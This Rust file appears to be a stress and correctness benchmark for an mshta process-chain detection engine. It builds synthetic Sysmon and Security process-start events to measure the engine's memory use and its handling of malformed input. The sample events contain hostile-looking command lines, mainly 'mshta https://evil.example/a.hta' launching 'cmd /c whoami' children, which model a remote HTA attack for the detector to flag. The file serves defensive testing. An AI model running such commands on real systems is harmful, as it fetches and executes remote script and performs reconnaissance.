//! `hostile`: the hostile-input cases of issue 16, one case per run so that the
//! process's peak memory (VmHWM) is the case's own. Prints one JSON line:
//! the case, its size, seconds, peak RSS, and what the report says.
//!
//! ```text
//! hostile CASE N      # e.g. hostile children 250000
//! ```
//! Cases: `children` (one mshta, N children, 10,000-event batches), `stream` (one mshta, N
//! children, one event per push), `shapes` (N mshta starts with distinct URLs on one host,
//! 1,000-event batches), `evict` (N distinct starts on one host, 1,000-event batches),
//! `samepid` (N starts sharing one pid and time, 30 KB command lines), and the input-shape and
//! correctness cases `array_first`, `surrogate`, `future`, `cr_only`, `one_line`, `deep_array`,
//! `coverage`, `self_parent`, `bad_number` (N ignored).

use mshta_chain_bench::proc_status_kb;
use mshta_chain_core::{Config, Engine, Report};
use std::fmt::Write as _;
use std::time::Instant;

const T0: i64 = 1_714_557_600_000;

/// Sysmon's `UtcTime` text of an instant (the telemetry crate's formatter).
fn utc(ms: i64) -> String {
    mshta_chain_telemetry::timefmt::sysmon(ms)
}

/// One Sysmon 1 line.
#[allow(clippy::too_many_arguments)]
fn start(
    host: &str,
    t: i64,
    guid: &str,
    pid: u64,
    image: &str,
    cmd: &str,
    pguid: &str,
    ppid: u64,
    pimage: &str,
) -> String {
    let j = |s: &str| serde_json::to_string(s).unwrap_or_default();
    format!(
        r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":{},"UtcTime":"{}","ProcessGuid":{},"ProcessId":"{pid}","Image":{},"CommandLine":{},"ParentProcessGuid":{},"ParentProcessId":"{ppid}","ParentImage":{}}}"#,
        j(host),
        utc(t),
        j(guid),
        j(image),
        j(cmd),
        j(pguid),
        j(pimage)
    )
}

fn letters(mut n: u64) -> String {
    let mut s = String::new();
    loop {
        s.push((b'a' + (n % 26) as u8) as char);
        n /= 26;
        if n == 0 {
            return s;
        }
    }
}

fn guid(n: u64) -> String {
    format!("{{11111111-0000-0000-0000-{n:012x}}}")
}

const MSHTA: &str = r"C:\Windows\System32\mshta.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";

fn root_line() -> String {
    start("PC1", T0, &guid(1), 100, MSHTA, "mshta https://evil.example/a.hta", &guid(0), 99, r"C:\Windows\explorer.exe")
}

fn child_line(i: u64) -> String {
    start("PC1", T0 + 1 + (i as i64 % 500_000), &guid(1000 + i), 1000 + i, CMD, "cmd /c whoami", &guid(1), 100, MSHTA)
}

fn push_lines(e: &mut Engine, lines: impl Iterator<Item = String>, batch: usize) -> u64 {
    let mut buf = String::new();
    let (mut n, mut pushes) = (0, 0);
    for l in lines {
        buf.push_str(&l);
        buf.push('\n');
        n += 1;
        if n == batch {
            e.push(buf.as_bytes());
            pushes += 1;
            buf.clear();
            n = 0;
        }
    }
    if !buf.is_empty() {
        e.push(buf.as_bytes());
        pushes += 1;
    }
    pushes
}

fn summary(r: &Report) -> String {
    let top = r.chains.first().map(|c| (c.score, c.children.len())).unwrap_or((0, 0));
    format!(
        "chains {}, top score {}, top children listed {}, rejected {}, processes_tracked {}, processes_evicted {}, inventory rows {}",
        r.chains.len(),
        top.0,
        top.1,
        r.stats.rejected,
        r.stats.processes_tracked,
        r.stats.processes_evicted,
        r.inventory.len()
    )
}

fn analyze(bytes: &[u8]) -> Report {
    let mut e = Engine::new(Config::default()).expect("default config");
    e.push(bytes);
    e.finish()
}

fn run(case: &str, n: u64) -> Option<String> {
    let cfg = Config::default();
    let out = match case {
        "children" => {
            let mut e = Engine::new(cfg).ok()?;
            push_lines(&mut e, std::iter::once(root_line()).chain((0..n).map(child_line)), 10_000);
            summary(&e.finish())
        }
        "stream" => {
            let mut e = Engine::new(cfg).ok()?;
            push_lines(&mut e, std::iter::once(root_line()).chain((0..n).map(child_line)), 1);
            summary(&e.finish())
        }
        "shapes" => {
            let mut e = Engine::new(cfg).ok()?;
            let lines = (0..n).map(|i| {
                // Distinct letters (digits would be normalised into one shape).
                let cmd = format!("mshta https://{}.example/{}/a.hta", letters(i), letters(i * 7 + 3));
                start(
                    "PC1",
                    T0 + i as i64 * 10,
                    &guid(10 + i),
                    10 + i,
                    MSHTA,
                    &cmd,
                    &guid(0),
                    99,
                    r"C:\Windows\explorer.exe",
                )
            });
            push_lines(&mut e, lines, 1_000);
            summary(&e.finish())
        }
        "evict" => {
            let mut e = Engine::new(cfg).ok()?;
            let lines = (0..n).map(|i| {
                start(
                    "PC1",
                    T0 + i as i64,
                    &guid(10 + i),
                    10 + i,
                    CMD,
                    "cmd /c x",
                    &guid(0),
                    99,
                    r"C:\Windows\explorer.exe",
                )
            });
            push_lines(&mut e, lines, 1_000);
            summary(&e.finish())
        }
        "samepid" => {
            let mut e = Engine::new(cfg).ok()?;
            let long = "A".repeat(30_000);
            let lines = (0..n).map(|i| {
                // Differing only at the end: a plain comparison reads all 30 KB.
                let cmd = format!("cmd /c {long} {i}");
                // Security 4688 (no GUID): same pid, same time.
                format!(
                    r#"{{"EventID":4688,"Channel":"Security","Hostname":"PC1","TimeCreated":"{}","NewProcessId":"0x1004","NewProcessName":"C:\\Windows\\System32\\cmd.exe","ProcessId":"0xf3c","ParentProcessName":"C:\\Windows\\explorer.exe","CommandLine":"{cmd}"}}"#,
                    utc(T0)
                )
            });
            push_lines(&mut e, lines, 100);
            summary(&e.finish())
        }
        "array_first" => {
            let text = format!("[1]\n{}\n{}\n", root_line(), child_line(0));
            summary(&analyze(text.as_bytes()))
        }
        "surrogate" => {
            let root = root_line().replace("a.hta", "a\\ud800.hta");
            let child = child_line(0).replace("cmd /c whoami", "cmd /c whoami\\ud800");
            summary(&analyze(format!("{root}\n{child}\n").as_bytes()))
        }
        "future" => {
            let mut text = format!("{}\n", root_line());
            let _ = writeln!(text, "{}", start("PC1", 253_402_300_000_000, &guid(7), 7, CMD, "x", &guid(0), 1, CMD));
            for i in 0..30 {
                let _ = writeln!(text, "{}", child_line(i));
            }
            let r = analyze(text.as_bytes());
            format!("{}, late_events {}, warnings {}", summary(&r), r.stats.late_events, r.warnings.len())
        }
        "cr_only" => summary(&analyze(format!("{}\r{}\r", root_line(), child_line(0)).as_bytes())),
        "one_line" => summary(&analyze(format!("{} {}\n", root_line(), child_line(0)).as_bytes())),
        "deep_array" => {
            let deep = format!("{{\"x\":{}{}}}", "[".repeat(200), "]".repeat(200));
            summary(&analyze(format!("[{deep},{},{}]", root_line(), child_line(0)).as_bytes()))
        }
        "coverage" => {
            let mut text = String::new();
            for h in 0..10_050 {
                let _ =
                    writeln!(text, "{}", start(&format!("H{h}"), T0, &guid(h + 5), h + 5, CMD, "x", &guid(0), 1, CMD));
            }
            let r = analyze(text.as_bytes());
            let v = serde_json::to_value(&r.coverage).unwrap_or_default();
            format!("hosts_not_listed {}", v["hosts_not_listed"])
        }
        "self_parent" => {
            let l = start("PC1", T0, &guid(1), 100, MSHTA, "mshta https://evil.example/a.hta", &guid(1), 100, MSHTA);
            summary(&analyze(format!("{l}\n").as_bytes()))
        }
        "bad_number" => {
            let root = root_line().replace(r#""ParentProcessId":"99""#, r#""ParentProcessId":"-1""#);
            let child = child_line(0).replace(r#""ProcessId":"1000""#, r#""ProcessId":1e999"#);
            summary(&analyze(format!("{root}\n{child}\n").as_bytes()))
        }
        _ => return None,
    };
    Some(out)
}

fn main() -> std::process::ExitCode {
    let args: Vec<String> = std::env::args().collect();
    let (Some(case), n) = (args.get(1), args.get(2).and_then(|s| s.parse().ok()).unwrap_or(0)) else {
        eprintln!("usage: hostile CASE [N]");
        return std::process::ExitCode::from(2);
    };
    let t = Instant::now();
    let Some(out) = run(case, n) else {
        eprintln!("hostile: unknown case {case}");
        return std::process::ExitCode::from(2);
    };
    let secs = t.elapsed().as_secs_f64();
    let hwm = proc_status_kb("VmHWM").unwrap_or(0) as f64 / 1024.0;
    println!("{{\"case\":\"{case}\",\"n\":{n},\"seconds\":{secs:.3},\"peak_mb\":{hwm:.1},\"result\":\"{out}\"}}");
    std::process::ExitCode::SUCCESS
}
